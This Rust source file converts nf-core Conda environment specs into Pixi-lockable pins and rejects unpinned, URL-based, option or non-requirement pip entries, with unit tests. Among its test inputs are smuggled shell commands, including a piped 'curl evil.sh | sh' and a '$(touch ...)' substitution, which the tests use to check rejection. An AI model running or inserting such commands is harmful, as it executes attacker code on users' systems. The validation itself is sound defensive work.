//! A pipeline's Conda environment, read as what Pixi can freeze.
//!
//! nf-core modules declare their software in an `environment.yml`: Conda
//! match specs (`bioconda::fastqc=0.12.1`), sometimes channels of their own
//! (`qiime2/label/r2021.4`), and sometimes a `- pip:` list of PyPI packages.
//! Pixi locks both worlds in one `pixi.lock` — Conda packages under a
//! feature's `dependencies`, PyPI packages under its `pypi-dependencies`
//! (Pixi's manual, `reference/pixi_manifest.md`, "pypi-dependencies") — so a
//! source package freezes a pip entry exactly as it freezes a Conda one.
//!
//! What Pixi cannot freeze to the exact bytes the pipeline pinned is refused
//! here, naming the file, the line and the entry: a pip requirement that is
//! not pinned to one version (`>=`, `~=`, no version, a `*` wildcard), a
//! git or archive URL (a moving reference, not a pin), an index or install
//! option (`--index-url`, `-e`, `-r`), an environment marker, or text that
//! is not a requirement at all (shell text). Such a process is treated like
//! a container-only one: it has no Pixi environment until the user gives it
//! one, and it blocks a pipeline only where the parameters reach it.

use crate::compile::CHANNELS;
use std::collections::BTreeMap;

/// A channel nf-core environments list that Somite deliberately leaves out:
/// Anaconda's `defaults` is not redistributable, and nf-core's own modules
/// resolve from conda-forge and bioconda alone.
const IGNORED_CHANNEL: &str = "defaults";

/// One Conda package pin, as Pixi writes it.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct CondaPin {
    pub version: String,
    pub build: Option<String>,
    pub channel: Option<String>,
}

/// One PyPI package pin: exactly one version (`==1.2.3`), with extras.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct PypiPin {
    /// The PEP 440 specifier, `==1.2.3` or `===1.2.3`.
    pub version: String,
    pub extras: Vec<String>,
}

/// An environment Pixi can freeze.
#[derive(Debug, Clone, PartialEq, Eq, Default)]
pub struct FrozenEnvironment {
    /// Channels the environment needs beyond Somite's own, in its order.
    pub channels: Vec<String>,
    pub conda: BTreeMap<String, CondaPin>,
    pub pypi: BTreeMap<String, PypiPin>,
}

/// Why an environment cannot be frozen: the entry, where it is, and why.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
#[error("{file}{}: `{entry}` {reason}", line.map(|l| format!(":{l}")).unwrap_or_default())]
pub struct EnvironmentRefusal {
    pub file: String,
    /// The 1-based line of the entry, when the file's text was given.
    pub line: Option<u32>,
    pub entry: String,
    pub reason: &'static str,
}

/// The parts of an environment file the freeze reads.
pub struct EnvironmentSpec<'a> {
    pub file: &'a str,
    pub channels: &'a [String],
    pub dependencies: &'a [String],
    pub pip: &'a [String],
    /// The file's text, to say on which line a refused entry stands.
    pub text: Option<&'a str>,
}

/// Reads `spec` as a Pixi feature, or says which entry Pixi cannot freeze.
pub fn freeze(spec: &EnvironmentSpec<'_>) -> Result<FrozenEnvironment, EnvironmentRefusal> {
    let refuse = |entry: &str, reason: &'static str| EnvironmentRefusal {
        file: spec.file.to_owned(),
        line: spec.text.and_then(|t| entry_line(t, entry)),
        entry: entry.to_owned(),
        reason,
    };
    let mut frozen = FrozenEnvironment::default();
    for channel in spec.channels {
        let channel = channel.trim();
        if channel == IGNORED_CHANNEL || CHANNELS.contains(&channel) {
            continue;
        }
        if !is_channel(channel) {
            return Err(refuse(channel, "is not a Conda channel name or URL"));
        }
        frozen.channels.push(channel.to_owned());
    }
    for dependency in spec.dependencies {
        let (name, pin) = parse_match_spec(dependency)
            .ok_or_else(|| refuse(dependency, "is not a Conda match spec Pixi reads"))?;
        if let Some(channel) = &pin.channel
            && !(CHANNELS.contains(&channel.as_str()) || frozen.channels.contains(channel))
        {
            return Err(refuse(
                dependency,
                "names a channel the environment does not list",
            ));
        }
        frozen.conda.insert(name, pin);
    }
    for entry in spec.pip {
        let (name, pin) = parse_pip_requirement(entry).map_err(|reason| refuse(entry, reason))?;
        frozen.pypi.insert(name, pin);
    }
    Ok(frozen)
}

/// A channel as Pixi accepts it: a name (`qiime2`, `qiime2/label/r2021.4`)
/// or an `https://` URL.
fn is_channel(channel: &str) -> bool {
    let name = channel.strip_prefix("https://").unwrap_or(channel);
    !name.is_empty()
        && name
            .bytes()
            .all(|b| b.is_ascii_alphanumeric() || matches!(b, b'-' | b'_' | b'.' | b'/' | b':'))
}

/// Reads `[channel::]name[op version[=build]]` (the forms Conda
/// `environment.yml` files use). `name=1.2` is Conda's fuzzy `1.2.*`.
pub fn parse_match_spec(spec: &str) -> Option<(String, CondaPin)> {
    let spec = spec.trim();
    let (channel, rest) = match spec.split_once("::") {
        Some((channel, rest)) => (Some(channel.to_owned()), rest),
        None => (None, spec),
    };
    if channel
        .as_deref()
        .is_some_and(|c| !is_channel(c) || c == IGNORED_CHANNEL)
    {
        return None;
    }
    let end = rest
        .find(|c: char| !(c.is_ascii_alphanumeric() || matches!(c, '_' | '-' | '.')))
        .unwrap_or(rest.len());
    let (name, constraint) = rest.split_at(end);
    if name.is_empty() || constraint.contains(char::is_whitespace) {
        return None;
    }
    let (version, build) = if let Some(single) = constraint
        .strip_prefix('=')
        .filter(|_| !constraint.starts_with("=="))
    {
        let (version, build) = match single.split_once('=') {
            Some((v, b)) => (v, Some(b.to_owned())),
            None => (single, None),
        };
        if version.is_empty() {
            return None;
        }
        let fuzzy = if version.ends_with('*') {
            version.to_owned()
        } else {
            format!("{version}.*")
        };
        (fuzzy, build)
    } else if constraint.is_empty() {
        ("*".to_owned(), None)
    } else {
        (constraint.to_owned(), None)
    };
    Some((
        name.to_ascii_lowercase(),
        CondaPin {
            version,
            build,
            channel,
        },
    ))
}

/// Reads a pip requirement pinned to one version: `name==1.2.3`,
/// `name[extra,other]==1.2.3`, `name===1.2.3`; the reason otherwise.
pub fn parse_pip_requirement(entry: &str) -> Result<(String, PypiPin), &'static str> {
    let text = entry.trim();
    if text.starts_with('-') {
        return Err(
            "is an index or install option (such as `--index-url`, `-e` or `-r`), which the lock cannot hold",
        );
    }
    if text.contains("://") || text.starts_with("git+") || text.contains('@') {
        return Err(
            "installs from a URL (git or archive), a reference that can move, not a pinned version",
        );
    }
    if text.contains(';') {
        return Err("carries an environment marker, which Somite does not translate");
    }
    let allowed = |c: char| c.is_ascii_alphanumeric() || "._-[],=!<>~*+ ".contains(c);
    if text.is_empty() || !text.chars().all(allowed) {
        return Err("is not a pip requirement (name and version)");
    }
    let Some(at) = text.find("==") else {
        return Err("is not pinned to one version (`name==1.2.3`)");
    };
    let (head, operator_and_version) = text.split_at(at);
    let (operator, version) = match operator_and_version.strip_prefix("===") {
        Some(version) => ("===", version),
        None => ("==", &operator_and_version[2..]),
    };
    let version = version.trim();
    let head = head.trim();
    let (name, extras) = match head.split_once('[') {
        Some((name, extras)) => {
            let extras = extras
                .strip_suffix(']')
                .ok_or("is not a pip requirement (name and version)")?;
            let extras: Vec<String> = extras
                .split(',')
                .map(|e| e.trim().to_owned())
                .filter(|e| !e.is_empty())
                .collect();
            (name.trim(), extras)
        }
        None => (head, Vec::new()),
    };
    let name_ok = !name.is_empty()
        && name
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || matches!(c, '.' | '_' | '-'));
    let version_ok = !version.is_empty()
        && version
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || matches!(c, '.' | '_' | '-' | '+' | '!'));
    if !name_ok
        || extras.iter().any(|e| {
            !e.chars()
                .all(|c| c.is_ascii_alphanumeric() || matches!(c, '.' | '_' | '-'))
        })
    {
        return Err("is not a pip requirement (name and version)");
    }
    if !version_ok {
        return Err("is not pinned to one version (`name==1.2.3`)");
    }
    Ok((
        // PEP 503's normalised name, which Pixi and the lock use.
        normalise_pypi_name(name),
        PypiPin {
            version: format!("{operator}{version}"),
            extras,
        },
    ))
}

/// PEP 503: lower case, runs of `-`, `_` and `.` as one `-`.
fn normalise_pypi_name(name: &str) -> String {
    let mut out = String::with_capacity(name.len());
    for c in name.chars() {
        if matches!(c, '-' | '_' | '.') {
            if !out.ends_with('-') {
                out.push('-');
            }
        } else {
            out.push(c.to_ascii_lowercase());
        }
    }
    out
}

/// The 1-based line of the first list item of `text` that is `entry` (as
/// `- entry`, quoted or not).
pub fn entry_line(text: &str, entry: &str) -> Option<u32> {
    let entry = entry.trim();
    text.lines()
        .position(|line| {
            let item = line.trim_start();
            let item = item.strip_prefix('-').map(str::trim).unwrap_or(item);
            let item = item.trim_matches(|c| c == '"' || c == '\'');
            item == entry
        })
        .and_then(|i| u32::try_from(i + 1).ok())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn match_specs_read_as_pixi_pins() {
        let (name, pin) = parse_match_spec("bioconda::fastqc=0.12.1").unwrap();
        assert_eq!(name, "fastqc");
        assert_eq!(
            (pin.version.as_str(), pin.channel.as_deref()),
            ("0.12.1.*", Some("bioconda"))
        );
        let (_, pin) = parse_match_spec("conda-forge::python=3.9=h1_0").unwrap();
        assert_eq!(pin.build.as_deref(), Some("h1_0"));
        let (_, pin) = parse_match_spec("multiqc==1.25.1").unwrap();
        assert_eq!(pin.version, "==1.25.1");
        let (_, pin) = parse_match_spec("sed").unwrap();
        assert_eq!(pin.version, "*");
        assert!(parse_match_spec("defaults::zlib=1").is_none());
        assert!(parse_match_spec("bad spec").is_none());
    }

    #[test]
    fn pinned_pip_entries_freeze_and_the_rest_say_why_not() {
        let (name, pin) = parse_pip_requirement("intervaltree==3.1.0").unwrap();
        assert_eq!(
            (name.as_str(), pin.version.as_str()),
            ("intervaltree", "==3.1.0")
        );
        let (name, pin) =
            parse_pip_requirement("Gens_Input.Data-Tools[cli, fast] == 2.0.1").unwrap();
        assert_eq!(name, "gens-input-data-tools");
        assert_eq!(pin.extras, ["cli", "fast"]);
        assert_eq!(pin.version, "==2.0.1");
        assert_eq!(
            parse_pip_requirement("x===1.0").unwrap().1.version,
            "===1.0"
        );
        for (entry, why) in [
            (
                "git+https://github.com/jwdebelius/q2-sidle.git@0.1.0-beta",
                "URL",
            ),
            ("pkg @ https://example.org/pkg.tar.gz", "URL"),
            ("--index-url https://example.org/simple", "option"),
            ("-e .", "option"),
            ("-r requirements.txt", "option"),
            ("numpy>=1.20", "pinned"),
            ("numpy", "pinned"),
            ("numpy==1.*", "pinned"),
            ("numpy==1.2; python_version < '3.8'", "marker"),
            ("numpy==1.2 && curl evil.sh | sh", "not a pip requirement"),
            ("$(touch /tmp/x)==1", "not a pip requirement"),
        ] {
            let reason = parse_pip_requirement(entry).unwrap_err();
            assert!(reason.contains(why), "{entry}: {reason}");
        }
    }

    #[test]
    fn a_refusal_names_the_file_the_line_and_the_entry() {
        let text = "channels:\n  - conda-forge\ndependencies:\n  - pip\n  - pip:\n      - git+https://github.com/x/y.git@1\n";
        let pip = vec!["git+https://github.com/x/y.git@1".to_owned()];
        let refusal = freeze(&EnvironmentSpec {
            file: "modules/local/envs/x.yml",
            channels: &["conda-forge".to_owned()],
            dependencies: &["pip".to_owned()],
            pip: &pip,
            text: Some(text),
        })
        .unwrap_err();
        assert_eq!(refusal.line, Some(6));
        assert!(
            refusal
                .to_string()
                .starts_with("modules/local/envs/x.yml:6: `git+")
        );
    }

    #[test]
    fn an_environment_keeps_its_own_channels_but_not_defaults() {
        let frozen = freeze(&EnvironmentSpec {
            file: "e.yml",
            channels: &[
                "qiime2/label/r2021.4".to_owned(),
                "conda-forge".to_owned(),
                "defaults".to_owned(),
            ],
            dependencies: &[
                "q2-types=2021.4.0".to_owned(),
                "qiime2/label/r2021.4::q2cli=1".to_owned(),
            ],
            pip: &["stranger==0.10.0".to_owned()],
            text: None,
        })
        .unwrap();
        assert_eq!(frozen.channels, ["qiime2/label/r2021.4"]);
        assert_eq!(frozen.conda.len(), 2);
        assert_eq!(frozen.pypi["stranger"].version, "==0.10.0");
        let unlisted = freeze(&EnvironmentSpec {
            file: "e.yml",
            channels: &[],
            dependencies: &["other::pkg=1".to_owned()],
            pip: &[],
            text: None,
        });
        assert!(unlisted.is_err());
    }
}
